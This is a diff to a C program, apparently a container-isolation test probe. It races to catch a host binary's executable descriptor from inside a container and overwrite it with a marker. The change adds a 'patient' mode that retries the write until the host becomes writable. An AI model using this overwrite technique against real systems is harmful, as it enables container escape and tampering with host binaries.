@@ -7,7 +7,10 @@
  *   caught PATH        an exe fd of a process that ran PATH (not a container file)
  *   wrote PATH         the host file was overwritten: the attack won
  *   refused PATH ERR   reopening or writing it failed (ERR: the errno's name)
- * Usage: exe_race SECONDS MARKER (static: the container has no libc). */
+ * With a third argument "patient", a refusal (EROFS, EPERM) is not final: the write is tried
+ * again every 100 ms, for the day the host makes the file writable again (an update that
+ * remounts it read-write or lifts its immutable flag); "refused" is then said once a file.
+ * Usage: exe_race SECONDS MARKER [patient] (static: the container has no libc). */
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -26,11 +29,13 @@ struct caught {
 	pid_t pid;
 	char path[256];
 	int done;
+	int said; /* patient: its refusal was printed */
 };
 
 static struct caught caught[MAX_CAUGHT];
 static int ncaught;
 static struct stat own[2]; /* the container's binaries: /bin/busybox and this one */
+static int patient;
 
 static int is_own(const struct stat *st)
 {
@@ -105,13 +110,16 @@ static void try_write(struct caught *c, const char *marker)
 		return; /* still executed by someone: try again later */
 	if (fd >= 0 && write(fd, marker, strlen(marker)) == (ssize_t)strlen(marker)) {
 		printf("wrote %s\n", c->path);
+		c->done = 1;
 	} else {
-		printf("refused %s %s\n", c->path, errname(errno));
+		if (!c->said)
+			printf("refused %s %s\n", c->path, errname(errno));
+		c->said = 1;
+		c->done = !patient;
 	}
 	fflush(stdout);
 	if (fd >= 0)
 		close(fd);
-	c->done = 1;
 }
 
 static pid_t max_pid(void)
@@ -132,10 +140,12 @@ static pid_t max_pid(void)
 
 int main(int argc, char **argv)
 {
-	double end;
+	double end, last = 0;
 	pid_t next;
 
-	if (argc != 3 || stat("/bin/busybox", &own[0]) < 0 || stat("/proc/self/exe", &own[1]) < 0)
+	patient = argc == 4 && strcmp(argv[3], "patient") == 0;
+	if ((argc != 3 && !patient) || stat("/bin/busybox", &own[0]) < 0 ||
+	    stat("/proc/self/exe", &own[1]) < 0)
 		return 2;
 	end = now() + atof(argv[1]);
 	next = max_pid() + 1;
@@ -145,8 +155,11 @@ int main(int argc, char **argv)
 		/* The next pids of the container, as they appear. */
 		for (pid_t p = next; p < next + 16; p++)
 			try_pid(p);
-		for (int i = 0; i < ncaught; i++)
-			try_write(&caught[i], argv[2]);
+		if (!patient || now() - last > 0.1) {
+			last = now();
+			for (int i = 0; i < ncaught; i++)
+				try_write(&caught[i], argv[2]);
+		}
 		if (next + 8 < max_pid())
 			next = max_pid() - 8;
 	}
